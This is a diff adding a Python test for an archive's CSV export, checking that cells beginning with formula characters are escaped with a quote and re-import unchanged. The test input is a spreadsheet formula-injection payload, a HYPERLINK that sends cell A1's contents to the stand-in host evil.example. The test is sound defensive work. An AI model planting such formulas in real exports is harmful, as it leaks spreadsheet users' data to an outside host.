@@ -183,6 +183,21 @@ def test_export_then_import_changes_nothing(fonds, archivist):
     assert len(list(csv.DictReader(io.StringIO(search_export)))) == 2
 
 
+def test_cells_that_a_spreadsheet_would_run_as_formulas_are_exported_as_text_and_reimported_unchanged(fonds, archivist):
+    title = '=HYPERLINK("http://evil.example/?"&A1,"click")'
+    services.photograph_ingest(collection=fonds, file=upload("f.png", images.png_bytes()), filename="f.png", user=archivist,
+                               metadata={"title": title, "description": "-5 degrees, @noon", "creator": "+Studio"})
+    out = io.StringIO()
+    services.csv_export(photographs=Photograph.objects.all(), out=out)
+    [row] = csv.DictReader(io.StringIO(out.getvalue()))
+    assert row["dc:title"] == "'" + title
+    assert (row["dc:description"], row["dc:creator"]) == ("'-5 degrees, @noon", "'+Studio")
+    assert not any(cell.startswith(("=", "+", "-", "@")) for cell in row.values())
+
+    report = services.csv_import_plan(csv_file=io.BytesIO(out.getvalue().encode()), user=archivist)
+    assert report.counts["unchanged"] == 1, [r.changed for r in report.rows]
+
+
 def test_updates_from_csv_write_history(fonds, archivist):
     photograph = PhotographFactory(collection=fonds, identifier="X-1", title="Before", subjects=["A"])
     csv_import = services.csv_import_start(
